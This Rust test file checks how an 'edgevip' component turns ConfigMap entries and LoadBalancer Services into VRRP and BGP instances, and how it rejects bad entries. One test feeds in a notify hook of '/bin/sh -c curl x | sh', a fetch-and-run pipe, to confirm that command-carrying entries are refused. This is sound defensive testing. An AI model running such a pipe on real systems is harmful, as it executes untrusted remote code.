use std::time::Duration;

use edgevip_config::HealthCheck;

use super::*;
use crate::fuzz::node;
use crate::pools::PoolDef;

fn settings(me: &str) -> Settings {
    Settings {
        node_name: me.into(),
        vrid: 50,
        interface: None,
        unicast: true,
        advert_interval: Duration::from_millis(200),
        preempt: false,
        ingress_check: crate::eligibility::IngressCheck::Always(HealthCheck::http(
            "ingress",
            "http://127.0.0.1:10254/healthz",
        )),
        eligibility: Default::default(),
        lb: None,
        forwarding: false,
        bgp: None,
        proxy_header: edgevip_forward::ProxyHeader::V1,
        trust: Default::default(),
    }
}

/// The lab's link: the node subnet, and a second one for LoadBalancer pools.
fn eth0() -> NodeLink {
    NodeLink::named("eth0", &["192.0.2.11/24", "2001:db8::11/64"])
}

fn cluster() -> Vec<NodeInfo> {
    vec![
        node("edge-a", &["192.0.2.11", "2001:db8::11"]),
        node("edge-b", &["192.0.2.12", "2001:db8::12"]),
        node("edge-c", &["192.0.2.9"]),
    ]
}

fn source(pairs: &[(&str, &str)]) -> Source {
    Source {
        object: "ConfigMap edgevip/vips".into(),
        data: pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
    }
}

/// RICH's `pinned` entry picks its interface and a VIP on that interface's subnet: the
/// DaemonSet opted in (`--allow-configmap-interfaces`, `--vip-ranges`).
fn wide(me: &str) -> Settings {
    let mut s = settings(me);
    s.trust.configmap.interfaces = true;
    s.trust.vip_ranges =
        crate::trust::Cidr::parse_list("192.0.2.0/24,2001:db8::/64,198.51.100.0/24").unwrap();
    s
}

fn build(b: &mut Builder, me: &str, src: &Source) -> Desired {
    b.build(
        &wide(me),
        &cluster(),
        &eth0(),
        Some(src),
        Default::default(),
    )
}

#[test]
fn compat_entries_become_one_instance_with_peers_and_numeric_priority() {
    let src = source(&[("192.0.2.100", "default/ingress:NAT"), ("192.0.2.101", "")]);
    let d = build(&mut Builder::default(), "edge-a", &src);
    assert!(d.rejects.is_empty(), "{:?}", d.rejects);
    let [i] = &d.instances[..] else {
        panic!("{:?}", d.instances)
    };
    assert_eq!(
        (i.name.as_str(), i.vrid, i.interface.as_str()),
        ("vips", 50, "eth0")
    );
    // 192.0.2.9 < 192.0.2.11 numerically: edge-c first (200), edge-a second.
    assert_eq!(i.priority, 190);
    assert!(i.unicast && !i.preempt);
    assert_eq!(
        i.unicast_peers,
        vec![
            "192.0.2.9".parse::<IpAddr>().unwrap(),
            "192.0.2.12".parse().unwrap()
        ]
    );
    // Peers know us by our InternalIP: our IPv4 adverts come from it.
    assert_eq!(i.unicast_src, Some("192.0.2.11".parse().unwrap()));
    assert_eq!(i.advert_interval, Duration::from_millis(200));
    assert_eq!(i.health_checks.len(), 1);
    assert_eq!(i.vips.len(), 2);
    assert_eq!(i.vips[0].prefix_len, 32);
    assert_eq!(d.services.len(), 1);
    assert_eq!(d.warnings.len(), 1, "NAT forwarding is warned about");
    let c = build(&mut Builder::default(), "edge-c", &src);
    assert_eq!(c.instances[0].priority, 200);
}

#[test]
fn a_bad_entry_is_rejected_alone() {
    let src = source(&[
        ("192.0.2.100", "default/ingress"),
        ("192.0.2.300", "default/ingress"),
        ("192.0.2.101", "default/ingress:LVS"),
    ]);
    let d = build(&mut Builder::default(), "edge-a", &src);
    assert_eq!(d.instances[0].vips.len(), 1);
    let fields: Vec<&str> = d.rejects.iter().map(|r| r.field.as_str()).collect();
    assert_eq!(fields, ["data[\"192.0.2.101\"]", "data[\"192.0.2.300\"]"]);
    assert!(
        d.rejects[0]
            .to_string()
            .starts_with("ConfigMap edgevip/vips data[\"192.0.2.101\"]: value")
    );
}

const RICH: &str = r#"
spread: true
instances:
  - name: web
    vrid: 51
    vips: [192.0.2.100/24, 2001:db8::100/64]
    advert_interval: 100ms
  - name: api
    vrid: 52
    vips: [192.0.2.110/24]
    preempt: true
    health_checks: []
  - name: pinned
    vrid: 53
    interface: eth1
    priority: 77
    unicast: false
    vips: [198.51.100.1/24]
"#;

#[test]
fn rich_entries_fill_in_what_the_cluster_decides() {
    let d = build(
        &mut Builder::default(),
        "edge-a",
        &source(&[(rich::KEY, RICH)]),
    );
    assert!(d.rejects.is_empty(), "{:?}", d.rejects);
    let by = |n: &str| d.instances.iter().find(|i| i.name == n).unwrap();
    let web = by("web");
    assert_eq!(web.advert_interval, Duration::from_millis(100));
    assert_eq!(
        web.unicast_peers,
        vec![
            "192.0.2.9".parse::<IpAddr>().unwrap(),
            "192.0.2.12".parse().unwrap(),
            "2001:db8::12".parse().unwrap()
        ],
        "peers of both families, a node without IPv6 contributes none"
    );
    assert_eq!(web.health_checks.len(), 1, "default ingress check");
    let api = by("api");
    assert!(api.preempt && api.health_checks.is_empty());
    let pinned = by("pinned");
    assert_eq!((pinned.priority, pinned.interface.as_str()), (77, "eth1"));
    assert!(!pinned.unicast && pinned.unicast_peers.is_empty());
}

#[test]
fn a_node_without_an_address_of_a_family_keeps_out_of_its_unicast_election() {
    // edge-c lists no IPv6 InternalIP: it would never hear the others' IPv6 adverts.
    let d = build(
        &mut Builder::default(),
        "edge-c",
        &source(&[(rich::KEY, RICH)]),
    );
    let names: Vec<&str> = d.instances.iter().map(|i| i.name.as_str()).collect();
    assert!(!names.contains(&"web"), "{names:?}");
    assert!(names.contains(&"api"), "IPv4 only: {names:?}");
    let r = d
        .rejects
        .iter()
        .find(|r| r.field.contains("instances[0]"))
        .unwrap();
    assert!(
        r.message.contains("node edge-c lists no IPv6 InternalIP"),
        "{r:?}"
    );
    let d = build(
        &mut Builder::default(),
        "edge-a",
        &source(&[(rich::KEY, RICH)]),
    );
    assert!(
        d.instances.iter().any(|i| i.name == "web"),
        "edge-a has both"
    );
}

#[test]
fn spread_makes_each_node_master_of_a_share() {
    let mut tops = BTreeMap::new();
    for me in ["edge-a", "edge-b", "edge-c"] {
        // IPv4 VIPs only: edge-c lists no IPv6 address (see the next test).
        let v4 = RICH.replace(", 2001:db8::100/64", "");
        let d = build(&mut Builder::default(), me, &source(&[(rich::KEY, &v4)]));
        for i in d.instances.iter().filter(|i| i.name != "pinned") {
            let e = tops.entry(i.name.clone()).or_insert((0u8, String::new()));
            if i.priority > e.0 {
                *e = (i.priority, me.to_string());
            }
        }
    }
    let masters: BTreeSet<&String> = tops.values().map(|(_, n)| n).collect();
    assert_eq!(
        masters.len(),
        2,
        "web and api have different top nodes: {tops:?}"
    );
}

#[test]
fn a_broken_edit_keeps_the_last_good_version() {
    let mut b = Builder::default();
    let good = build(&mut b, "edge-a", &source(&[(rich::KEY, RICH)]));
    // web's VRID becomes invalid: web keeps running as before, the others apply.
    let edited = RICH
        .replace("vrid: 51", "vrid: 0")
        .replace("192.0.2.110/24", "192.0.2.111/24");
    let d = build(&mut b, "edge-a", &source(&[(rich::KEY, &edited)]));
    let web_before = good.instances.iter().find(|i| i.name == "web").unwrap();
    let web_now = d.instances.iter().find(|i| i.name == "web").unwrap();
    assert_eq!(web_before, web_now);
    let api = d.instances.iter().find(|i| i.name == "api").unwrap();
    assert_eq!(api.vips[0].to_string(), "192.0.2.111/24");
    assert_eq!(d.rejects.len(), 1);
    assert_eq!(
        d.rejects[0].message,
        "edgevip.yaml: instances[0].vrid: 0 is out of range 1..255 (keeping its last good version)"
    );
    // A document that no longer parses keeps the whole last good document.
    let d = build(&mut b, "edge-a", &source(&[(rich::KEY, "instances: [")]));
    assert_eq!(d.instances.len(), 3);
    assert!(
        d.rejects[0]
            .message
            .contains("keeping the last good document")
    );
    // A brand-new invalid entry has nothing to fall back on.
    let d = build(
        &mut Builder::default(),
        "edge-a",
        &source(&[(rich::KEY, "instances: [{name: x, vrid: 9, vips: [bad]}]")]),
    );
    assert!(d.instances.is_empty());
    assert!(d.rejects[0].message.contains("vips[0]"), "{:?}", d.rejects);
}

/// Found by the `configmap_rich` fuzz target: a broken entry used to take its good
/// namesake's fields as its "last good" form on the next build, moving the instance to the
/// broken entry's position (another priority with spread) although nothing had changed.
#[test]
fn a_broken_entry_does_not_borrow_a_namesakes_last_good_form() {
    let doc = "spread: true\ninstances:\n  - {name: api, vrid: 52, vips: [19-2.0.2.110/24]}\n  - {name: web, vrid: 51, vips: [192.0.2.100/24]}\n  - {name: api, vrid: 52, vips: [192.0.2.110/24]}\n";
    let src = source(&[(rich::KEY, doc)]);
    let mut b = Builder::default();
    let first = build(&mut b, "edge-a", &src);
    let again = build(&mut b, "edge-a", &src);
    assert_eq!(first.instances, again.instances);
    assert_eq!(first.rejects, again.rejects);
    let api = again.instances.iter().find(|i| i.name == "api").unwrap();
    assert_eq!(api.vips[0].to_string(), "192.0.2.110/24");
    assert!(
        again.rejects[0]
            .message
            .contains(r#"instances[0].vips[0]: "19-2.0.2.110/24" is not an IP address"#),
        "{:?}",
        again.rejects
    );
}

#[test]
fn clashing_instances_are_rejected_not_the_whole_set() {
    let doc = "instances:\n  - {name: a, vrid: 50, vips: [192.0.2.7/24]}\n  - {name: b, vrid: 60, vips: [192.0.2.100/24]}\n";
    let d = build(
        &mut Builder::default(),
        "edge-a",
        &source(&[("192.0.2.100", ""), (rich::KEY, doc)]),
    );
    let names: Vec<&str> = d.instances.iter().map(|i| i.name.as_str()).collect();
    assert_eq!(names, ["vips"]);
    assert_eq!(d.rejects.len(), 2, "{:?}", d.rejects);
    assert!(d.rejects[0].message.contains("collides"), "{:?}", d.rejects);
}

#[test]
fn nodes_change_peers_and_priorities_but_nothing_else() {
    let src = source(&[("192.0.2.100", "")]);
    let mut b = Builder::default();
    let before = build(&mut b, "edge-b", &src);
    let mut nodes = cluster();
    nodes.push(node("edge-d", &["192.0.2.200"]));
    let after = b.build(
        &settings("edge-b"),
        &nodes,
        &eth0(),
        Some(&src),
        Default::default(),
    );
    let (x, y) = (&before.instances[0], &after.instances[0]);
    assert_eq!(y.unicast_peers.len(), 3);
    assert_eq!(
        x.priority, y.priority,
        "a node with a higher address does not shift us"
    );
    let mut y2 = y.clone();
    y2.unicast_peers = x.unicast_peers.clone();
    assert_eq!(*x, y2, "only the peers changed");
}

#[test]
fn not_an_edge_node_or_no_configmap_serves_nothing() {
    let src = source(&[("192.0.2.100", "")]);
    let d = build(&mut Builder::default(), "worker-1", &src);
    assert!(d.instances.is_empty());
    assert!(d.rejects[0].message.contains("not among the edge nodes"));
    let d = Builder::default().build(
        &settings("edge-a"),
        &cluster(),
        &eth0(),
        None,
        Default::default(),
    );
    assert_eq!(d, Desired::default());
}

#[test]
fn load_balancer_services_become_instances_even_without_a_configmap() {
    let s = lb_settings("edge-a");
    let services = [
        lb_svc("a", "1", None, &["192.0.2.200"]),
        lb_svc("b", "2", None, &[]),
    ];
    let pools = flag_pool(&s);
    let d = Builder::default().build(&s, &cluster(), &eth0(), None, view(&services, &pools));
    let [i] = &d.instances[..] else {
        panic!("{d:?}")
    };
    // 192.0.2.200 is 3221226184, ≡ 34 (mod 50): VRID 100 + 34.
    assert_eq!((i.name.as_str(), i.vrid), ("lb-134", 134));
    assert_eq!(
        i.vips[0].to_string(),
        "192.0.2.200/32",
        "only recorded VIPs are served"
    );
    assert_eq!(d.lb.writes.len(), 1, "b's allocation is to be recorded");
    assert!(
        !d.writer,
        "the allocator Lease, not the builder, makes a writer"
    );
    let d = Builder::default().build(&s, &cluster(), &eth0(), None, Default::default());
    assert!(d.instances.is_empty());
}

#[test]
fn cluster_defaults_meet_the_files_rules() {
    // The command line's 200ms suits VRRPv3 only: a VRRPv2 entry must set its own.
    let doc = "instances:\n  - {name: old, vrid: 54, version: 2, vips: [192.0.2.120/24]}\n  - {name: ok, vrid: 55, version: 2, advert_interval: 1s, vips: [192.0.2.121/24]}\n";
    let d = build(
        &mut Builder::default(),
        "edge-a",
        &source(&[(rich::KEY, doc)]),
    );
    let names: Vec<&str> = d.instances.iter().map(|i| i.name.as_str()).collect();
    assert_eq!(names, ["ok"]);
    assert_eq!(d.rejects.len(), 1, "{:?}", d.rejects);
    assert_eq!(d.rejects[0].field, "edgevip.yaml: instances[0]");
    assert_eq!(
        d.rejects[0].message,
        "edgevip.yaml: instances[0].advert_interval: 200ms is not whole seconds (VRRPv2 counts seconds)"
    );
}

fn lb_settings(me: &str) -> Settings {
    let mut s = settings(me);
    s.lb = Some(crate::services::LbSettings {
        class: crate::services::DEFAULT_CLASS.into(),
        default_class: false,
        pool: crate::services::Pool::parse("192.0.2.10-192.0.2.12,192.0.2.200-192.0.2.210")
            .unwrap(),
        vrids: 100..=149,
    });
    s
}

fn flag_pool(s: &Settings) -> Vec<PoolDef> {
    vec![PoolDef::from_flag(s.lb.as_ref().unwrap().pool.clone())]
}

fn view<'a>(services: &'a [SvcInfo], pools: &'a [PoolDef]) -> LbView<'a> {
    LbView {
        services,
        pools,
        ..Default::default()
    }
}

/// Every VIP of the LoadBalancer instances.
fn lb_served(d: &Desired) -> Vec<String> {
    let mut all: Vec<String> = d
        .lb_groups
        .keys()
        .flat_map(|name| served(d, name))
        .collect();
    all.sort();
    all
}

fn lb_svc(name: &str, created: &str, wanted: Option<&str>, status: &[&str]) -> SvcInfo {
    SvcInfo {
        namespace: "web".into(),
        name: name.into(),
        created: created.into(),
        class: Some(crate::services::DEFAULT_CLASS.into()),
        wanted: Ok(wanted.iter().map(|w| w.parse().unwrap()).collect()),
        wanted_from: "spec.loadBalancerIP",
        status: status.iter().map(|x| x.parse().unwrap()).collect(),
        ..Default::default()
    }
}

fn served(d: &Desired, instance: &str) -> Vec<String> {
    d.instances
        .iter()
        .filter(|i| i.name == instance)
        .flat_map(|i| i.vips.iter().map(|v| v.addr.to_string()))
        .collect()
}

#[test]
fn one_bad_compat_key_is_refused_alone() {
    let src = source(&[
        ("192.0.2.100", ""),
        ("fe80::1", ""),
        ("127.0.0.1", ""),
        ("192.0.2.12", ""),
        ("198.51.100.7", ""),
        ("192.0.2.101", "default/web"),
    ]);
    let d = Builder::default().build(
        &settings("edge-a"),
        &cluster(),
        &eth0(),
        Some(&src),
        Default::default(),
    );
    assert_eq!(served(&d, COMPAT_INSTANCE), ["192.0.2.100", "192.0.2.101"]);
    let fields: Vec<&str> = d.rejects.iter().map(|r| r.field.as_str()).collect();
    assert_eq!(
        fields,
        [
            "data[\"127.0.0.1\"]",
            "data[\"192.0.2.12\"]",
            "data[\"198.51.100.7\"]",
            "data[\"fe80::1\"]",
        ],
        "{:?}",
        d.rejects
    );
    assert!(d.rejects[1].message.contains("a node's address"));
}

#[test]
fn a_generated_instance_that_cannot_take_a_vip_loses_only_that_vip() {
    // Whatever the cause (here a VIP past the fence that the file's rules refuse), the
    // VIP is refused alone, with the entry that asked for it.
    let (s, nodes) = (settings("edge-a"), cluster());
    let ctx = Ctx::new(&s, &nodes, &nodes[0], &eth0());
    let ip = |x: &str| x.parse::<IpAddr>().unwrap();
    let c = Candidate::generated(
        "services",
        "lb-51",
        51,
        From::Services,
        vec![
            (ip("192.0.2.200"), "Service web/a".into()),
            (ip("127.0.0.1"), "Service web/b".into()),
            (ip("192.0.2.201"), "Service web/c".into()),
        ],
    );
    let mut d = Desired::default();
    Builder::default().accept(&ctx, c, 0, false, "x", &mut d);
    assert_eq!(served(&d, "lb-51"), ["192.0.2.200", "192.0.2.201"]);
    assert_eq!(d.rejects.len(), 1, "{:?}", d.rejects);
    assert_eq!(d.rejects[0].field, "Service web/b");
    assert!(d.rejects[0].message.starts_with("refused alone: "));
}

#[test]
fn the_configmap_carrying_commands_is_refused_entry_by_entry() {
    let doc = "instances:\n  - {name: web, vrid: 61, vips: [192.0.2.120/24]}\n  - {name: evil, vrid: 62, vips: [192.0.2.121/24], notify: [/bin/sh, -c, 'curl x | sh']}\n  - {name: probe, vrid: 63, vips: [192.0.2.122/24], health_checks: [{exec: [/bin/true]}]}\n  - {name: far, vrid: 64, vips: [203.0.113.10/24]}\n";
    let src = source(&[(rich::KEY, doc), ("192.0.2.100", "")]);
    let d = Builder::default().build(
        &settings("edge-a"),
        &cluster(),
        &eth0(),
        Some(&src),
        Default::default(),
    );
    let names: Vec<&str> = d.instances.iter().map(|i| i.name.as_str()).collect();
    assert_eq!(names, ["vips", "web"]);
    let notes: Vec<String> = d
        .rejects
        .iter()
        .map(|r| format!("{}: {}", r.field, r.message))
        .collect();
    assert_eq!(notes.len(), 3, "{notes:#?}");
    assert!(
        notes[0].contains("instances[1].notify") && notes[0].contains("curl x | sh"),
        "{notes:#?}"
    );
    assert!(
        notes[1].contains("instances[2].health_checks[0].exec"),
        "{notes:#?}"
    );
    assert!(
        notes[2].contains("instances[3].vips[0]: refused: 203.0.113.10 is outside"),
        "{notes:#?}"
    );
    // The DaemonSet opting in lets them through.
    let mut s = settings("edge-a");
    s.trust.configmap.exec = true;
    let d = Builder::default().build(&s, &cluster(), &eth0(), Some(&src), Default::default());
    assert_eq!(d.instances.len(), 4, "{:?}", d.rejects);
}

#[test]
fn bad_load_balancer_requests_are_refused_alone_and_live_vips_win() {
    let s = lb_settings("edge-a");
    let services = [
        lb_svc("old", "1", None, &["192.0.2.200"]),
        lb_svc("loopback", "2", Some("127.0.0.1"), &[]),
        lb_svc("node", "3", Some("192.0.2.12"), &[]),
        lb_svc("outside", "4", Some("203.0.113.7"), &[]),
        // Older than `old` but asks for its live VIP: refused, `old` keeps it.
        lb_svc("thief", "0", Some("192.0.2.200"), &[]),
        lb_svc("ok", "5", Some("192.0.2.205"), &[]),
        lb_svc("fresh", "6", None, &[]),
    ];
    let pools = flag_pool(&s);
    let d = Builder::default().build(&s, &cluster(), &eth0(), None, view(&services, &pools));
    assert_eq!(lb_served(&d), ["192.0.2.200", "192.0.2.205"]);
    let p = &d.lb.problems;
    assert!(p["web/loopback"].contains("127.0.0.1 is loopback"), "{p:?}");
    assert!(
        p["web/node"].contains("192.0.2.12 is a node's address"),
        "{p:?}"
    );
    assert!(
        p["web/outside"].contains(
            "203.0.113.7 is not in an address pool this Service may use (--address-pool)"
        ),
        "{p:?}"
    );
    assert!(
        p["web/thief"].contains("already the VIP of Service old"),
        "{p:?}"
    );
    // The pool's .10-.12 hold node addresses: allocation skips them.
    assert_eq!(
        d.lb.writes["web/fresh"],
        ["192.0.2.10".parse::<IpAddr>().unwrap()]
    );
    assert_eq!(d.lb.serving.len(), 2);
}

#[test]
fn load_balancer_instances_step_around_the_configmaps_vrids_in_either_order() {
    let s = lb_settings("edge-a");
    // 192.0.2.201's VRID is 135 (3221226185 ≡ 35 mod 50); the ConfigMap takes 135.
    let rich135 = source(&[(
        rich::KEY,
        "instances:\n  - {name: ingress, vrid: 135, vips: [192.0.2.150/24]}\n",
    )]);
    let svc = [lb_svc("front", "1", None, &["192.0.2.201"])];
    let pools = flag_pool(&s);
    let lb = view(&svc, &pools);
    let vrids = |d: &Desired| -> Vec<(String, u8)> {
        d.instances
            .iter()
            .map(|i| (i.name.clone(), i.vrid))
            .collect()
    };
    let both = [("lb-136".to_string(), 136), ("ingress".to_string(), 135)];
    let mut b = Builder::default();
    b.build(&s, &cluster(), &eth0(), Some(&rich135), Default::default());
    let d = b.build(&s, &cluster(), &eth0(), Some(&rich135), lb);
    assert_eq!(vrids(&d), both, "{:?}", d.rejects);
    // The LB instance serves on 135 first; the edit moves it to 136 and the rich one serves.
    let mut b = Builder::default();
    let d = b.build(&s, &cluster(), &eth0(), None, lb);
    assert_eq!(vrids(&d), [("lb-135".to_string(), 135)]);
    let d = b.build(&s, &cluster(), &eth0(), Some(&rich135), lb);
    assert_eq!(vrids(&d), both, "{:?}", d.rejects);
    assert!(d.rejects.is_empty());
    assert_eq!(lb_served(&d), ["192.0.2.201"]);
    // --vrid is never used either, and a full range leaves the Service a problem.
    let mut s1 = s.clone();
    s1.lb.as_mut().unwrap().vrids = 135..=135;
    s1.vrid = 135;
    let d = Builder::default().build(&s1, &cluster(), &eth0(), None, lb);
    assert!(d.instances.is_empty());
    assert!(
        d.lb.problems["web/front"].contains("no VRID of --lb-vrids"),
        "{:?}",
        d.lb.problems
    );
}

/// Peers and credentials come from BGPPeer objects, never the VIP ConfigMap: without
/// `--bgp` an `announce: bgp` entry is refused alone, with its path; with it, the entry is
/// an instance on `lo` with the same eligibility (the ingress check) as a VRRP one.
#[test]
fn an_announce_bgp_entry_needs_the_bgp_flag() {
    let yaml = "instances:\n  - {name: web, vrid: 51, vips: [192.0.2.100/24]}\n  \
                - {name: routed, announce: bgp, vips: [192.0.2.101]}\n";
    let src = source(&[(rich::KEY, yaml)]);
    let d = build(&mut Builder::default(), "edge-a", &src);
    assert_eq!(d.instances.len(), 1);
    assert_eq!(d.instances[0].name, "web");
    let msgs: Vec<String> = d.rejects.iter().map(ToString::to_string).collect();
    assert!(
        msgs.iter().any(|m| m.contains(
            ".announce: \"bgp\" needs edgevip started with --bgp (peers come from BGPPeer objects)"
        )),
        "{msgs:?}"
    );

    let s = Settings {
        bgp: Some(Default::default()),
        ..settings("edge-a")
    };
    let d = Builder::default().build(&s, &cluster(), &eth0(), Some(&src), LbView::default());
    assert!(d.rejects.is_empty(), "{:?}", d.rejects);
    let routed = d.instances.iter().find(|i| i.name == "routed").unwrap();
    assert!(routed.mode.is_bgp());
    assert_eq!(routed.interface, "lo");
    assert_eq!(
        routed.health_checks,
        settings("edge-a").ingress_check.default_checks()
    );
    // A VRRP-only field in a bgp entry is refused with its path.
    let yaml = "instances:\n  - {name: routed, announce: bgp, vrid: 9, vips: [192.0.2.101]}\n";
    let d = Builder::default().build(
        &s,
        &cluster(),
        &eth0(),
        Some(&source(&[(rich::KEY, yaml)])),
        LbView::default(),
    );
    assert!(d.instances.is_empty());
    assert!(
        d.rejects[0].to_string().contains("instances[0].vrid"),
        "{:?}",
        d.rejects
    );
}
